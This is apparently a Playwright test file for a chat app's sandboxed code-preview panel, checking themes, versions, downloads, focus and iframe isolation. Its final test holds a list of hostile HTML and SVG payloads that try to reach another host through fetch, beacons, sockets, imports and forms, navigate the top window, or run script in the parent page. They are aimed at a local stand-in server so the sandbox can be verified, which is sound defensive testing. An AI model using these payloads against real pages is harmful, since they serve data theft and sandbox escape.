import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { after, test } from "node:test";
import type { FrameLocator, Page } from "playwright-core";
import { type AppPage, eventually } from "./app-page.ts";
import { startFixture } from "./fixture.ts";
import { focusedName, inspect, looks } from "./look.ts";
import { hold, say } from "./scripted-model.ts";

const fixture = await startFixture();

const fenced = (info: string, text: string) => `\`\`\`${info}\n${text}\n\`\`\``;
const calculator = (minutes: string) => `<!doctype html>
<title>Waiting time</title>
<style>body { font: 16px system-ui; margin: 2rem }</style>
<h1>Waiting time</h1>
<p id="out"></p>
<script>document.getElementById("out").textContent = "${minutes} min";</script>`;
const csv = "step,arrivals,service\nintake,4.2,6\nreview,4.2,4.5";
const answers = [
  "How long?",
  `A first one:\n\n${fenced("html queue-calculator.html", calculator("2.9"))}`,
  "Again",
  `Better:\n\n${fenced("html queue-calculator.html", calculator("3.1"))}\n\nThe data:\n\n${fenced("csv", csv)}\n\n${fenced("json", '{ "intake": [4.2, 6] }')}\n\n${fenced("md", "# Notes\n\nReview is the **bottleneck**.")}`,
];

const openers = ({ answers: shown }: AppPage) => shown.getByRole("button", { name: "Open preview" });
const panel = ({ page }: AppPage) =>
  page.getByLabel("Preview", { exact: true }).and(page.locator("aside, dialog"));
const inner = (appPage: AppPage): FrameLocator =>
  panel(appPage).frameLocator("iframe").frameLocator("iframe");

for (const [name, look] of looks) {
  test(`previews can be read and operated in both themes: ${name}`, async (t) => {
    const { account, appPage } = await fixture.openSignedInPage(t, look);
    await account.fill(await account.newChat(), answers);
    await appPage.open();
    for (const [at, [screen, sign]] of Object.entries([
      ["html", ""],
      ["csv", "intake"],
      ["json", "intake"],
      ["markdown", "bottleneck"],
    ] as const)) {
      await openers(appPage)
        .nth(Number(at) + 1)
        .click();
      await (sign === ""
        ? inner(appPage).getByText("3.1 min").waitFor()
        : panel(appPage).getByText(sign).first().waitFor());
      await inspect(appPage, `preview-${screen}`, look);
      await panel(appPage).getByRole("button", { name: "Close preview" }).click();
    }
  });
}

test("a preview shows its versions and its code, is saved, and gives the focus back", async (t) => {
  const { account, appPage } = await fixture.openSignedInPage(t, { viewport: { width: 1280, height: 800 } });
  await account.fill(await account.newChat(), answers);
  await appPage.open();
  await openers(appPage).nth(1).press("Enter");
  const shown = panel(appPage);
  await inner(appPage).getByText("3.1 min").waitFor();
  await shown.getByText("Runs in a sandbox without network.").waitFor();
  await shown.getByText("2 of 2").waitFor();
  await shown.getByRole("button", { name: "Earlier version" }).click();
  await inner(appPage).getByText("2.9 min").waitFor();
  await shown.getByText("1 of 2").waitFor();
  const [file] = await Promise.all([
    appPage.page.waitForEvent("download"),
    shown.getByRole("button", { name: "Download" }).click(),
  ]);
  assert.equal(file.suggestedFilename(), "queue-calculator.html");
  assert.equal(await readFile(await file.path(), "utf8"), calculator("2.9"));
  await shown.getByRole("tab", { name: "Code" }).click();
  await shown.locator("pre").getByText("Waiting time").first().waitFor();
  await appPage.page.keyboard.press("Escape");
  await shown.waitFor({ state: "detached" });
  assert.equal(await focusedName(appPage), "Open preview");
});

test("a preview ends with a change of the chat", async (t) => {
  const { account, appPage } = await fixture.openSignedInPage(t, { viewport: { width: 1280, height: 800 } });
  await account.fill(await account.newChat(), answers);
  await appPage.open();
  await openers(appPage).first().click();
  await inner(appPage).getByText("2.9 min").waitFor();
  await appPage.newChat.click();
  await panel(appPage).waitFor({ state: "detached" });
});

test("in a narrow window a preview fills it, and Escape closes it", async (t) => {
  const { account, appPage } = await fixture.openSignedInPage(t, { viewport: { width: 320, height: 640 } });
  await account.fill(await account.newChat(), answers);
  await appPage.open();
  await openers(appPage).nth(1).press("Enter");
  await inner(appPage).getByText("3.1 min").waitFor();
  assert.equal((await panel(appPage).boundingBox())?.width, 320);
  await appPage.page.keyboard.press("Escape");
  await panel(appPage).waitFor({ state: "detached" });
  assert.equal(await focusedName(appPage), "Open preview");
});

test("only finished blocks offer a preview, nothing moves, and text loads nothing for it", async (t) => {
  const { appPage } = await fixture.openSignedInPage(t);
  const files: string[] = [];
  appPage.page.on("request", (request) => {
    if (/\/(?:preview|sandbox)/u.test(new URL(request.url()).pathname)) files.push(request.url());
  });
  await appPage.open();
  const rest = Promise.withResolvers<void>();
  fixture.model.answer(
    say("Some text.\n\n```html\n<p>one</p>\n"),
    hold(rest.promise),
    say("```\n\nThe end."),
  );
  await appPage.ask("A page");
  const block = appPage.answers.last().locator("figure");
  await block.getByText("<p>one</p>").waitFor();
  assert.equal(await openers(appPage).count(), 0);
  const before = await block.boundingBox();
  rest.resolve();
  await openers(appPage).waitFor();
  assert.deepEqual(await block.boundingBox(), before);
  assert.equal(files.length, 0);
  await openers(appPage).click();
  await inner(appPage).getByText("one").waitFor();
  assert.ok(files.some((url) => url.includes("preview-panel")));
});

/** Paths that any page has asked another host for. */
const asked: string[] = [];
const foreign = createServer((request, response) => {
  asked.push(request.url ?? "");
  response.setHeader("access-control-allow-origin", "*").end();
});
await new Promise<void>((resolve) => {
  foreign.listen(0, "127.0.0.1", resolve);
});
after(() => foreign.close());
const host = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;

const script = (code: string) => `<script>try { ${code} } catch {}</script>`;
/** Pages that try to reach the web app or another host. */
const hostilePages: Record<string, string> = {
  fetch: script(`fetch("${host}/fetch").catch(() => {})`),
  "fetch of the web app": script(
    `fetch("${fixture.app.url}/api/models").then(() => fetch("${host}/api"), () => {})`,
  ),
  beacon: script(`navigator.sendBeacon("${host}/beacon", "x")`),
  request: script(`const one = new XMLHttpRequest(); one.open("GET", "${host}/xhr"); one.send()`),
  socket: script(`new WebSocket("${host.replace("http", "ws")}/socket")`),
  "event source": script(`new EventSource("${host}/events")`),
  worker: script(`new Worker(URL.createObjectURL(new Blob(["fetch('${host}/worker')"])))`),
  image: `<img src="${host}/image">${script(`new Image().src = "${host}/script-image"`)}`,
  "event handler": `<img src="data:," onerror="try { top.pwned = true } catch {}">`,
  styles: `<link rel="stylesheet" href="${host}/link.css"><style>@import "${host}/import.css"; body { background: url(${host}/background) } @font-face { font-family: x; src: url(${host}/font) } p { font-family: x }</style>`,
  hints: `<link rel="prefetch" href="${host}/prefetch"><link rel="preload" as="image" href="${host}/preload"><link rel="preconnect" href="${host}">`,
  "foreign script": `<script src="${host}/script.js"></script>${script(`import("${host}/module.js").catch(() => {})`)}`,
  media: `<video src="${host}/video" autoplay></video><audio src="${host}/audio" autoplay></audio>`,
  frames: `<iframe src="${host}/frame"></iframe><object data="${host}/object"></object><embed src="${host}/embed">`,
  "top navigation": script(`top.location.href = "${host}/top"`),
  "top navigation by link": `<base target="_top"><a id="a" href="${host}/link">x</a>${script("document.getElementById('a').click()")}`,
  "pop-up": script(`open("${host}/popup")`),
  parent: script(`parent.parent.document.title = "pwned"`) + script(`parent.document.title = "pwned"`),
  storage: script(`localStorage.x = 1; fetch("${host}/storage").catch(() => {})`),
  "form post": `<form id="f" method="post" action="${host}/form"><input name="a"></form>${script("document.getElementById('f').submit()")}`,
  dialog: script(`alert("pwned"); prompt("password")`),
  messages: script(
    `for (const one of [parent, top]) one.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-proxy-ready" }, "*")`,
  ),
};
/** Pages that leave for another host by themselves; the policy of the frame around them ends them. */
const leavingPages: Record<string, string> = {
  navigation: script(`location.href = "${host}/navigation"`),
  refresh: `<meta http-equiv="refresh" content="0;url=${host}/refresh">`,
};
const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="top.pwned = true">
<script>top.pwned = true; fetch("${host}/svg-script")</script>
<style>@import "${host}/svg-import"; rect { fill: url(${host}/svg-fill#a) }</style>
<image href="${host}/svg-image" width="9" height="9"/><use href="${host}/svg-use#a"/>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${host}/svg-foreign" onerror="top.pwned = true"/></foreignObject>
<a href="javascript:top.pwned=true"><rect width="90" height="90" onclick="top.pwned = true"/></a>
</svg>`;

test("hostile previews run no script outside the sandbox and ask no other host", async (t) => {
  const { account, appPage } = await fixture.openSignedInPage(t, { viewport: { width: 1280, height: 800 } });
  const { page } = appPage;
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const pages = [...Object.entries(hostilePages), ...Object.entries(leavingPages)];
  const blocks = pages.map(([name, text]) => fenced("html", `<title>${name}</title>${text}<p>the end</p>`));
  blocks.push(fenced("svg", hostileSvg));
  // Control: what the frame may do arrives, after everything that the pages before it began.
  blocks.push(
    fenced("html", `<p id="a"></p><script>setTimeout(() => { a.textContent = "alive" }, 500)</script>`),
  );
  await account.fill(await account.newChat(), ["Pages", blocks.join("\n\n")]);
  await appPage.open();
  await eventually(async () => assert.equal(await openers(appPage).count(), blocks.length));
  for (const [at, [name]] of pages.entries()) {
    await openers(appPage).nth(at).click();
    if (name in hostilePages) await inner(appPage).getByText("the end").waitFor();
    else await eventually(() => assert.ok(hasFailedFrame(page), name));
  }
  await openers(appPage).nth(pages.length).click();
  const image = inner(appPage).locator("img");
  await eventually(async () =>
    assert.ok(await image.evaluate((one) => one instanceof HTMLImageElement && one.naturalWidth > 0)),
  );
  await openers(appPage).last().click();
  await inner(appPage).getByText("alive").waitFor();
  const state = await page.evaluate(() => [
    Reflect.get(globalThis, "pwned"),
    document.title,
    location.pathname,
  ]);
  assert.equal(state[0], undefined);
  assert.ok(!String(state[1]).includes("pwned"));
  assert.equal(state[2], "/");
  assert.deepEqual([asked, dialogs, page.context().pages().length], [[], [], 1]);
});

/** Returns true if a frame of the page shows that its navigation was blocked. */
function hasFailedFrame(page: Page): boolean {
  return page.frames().some((frame) => frame.url().startsWith("chrome-error:"));
}
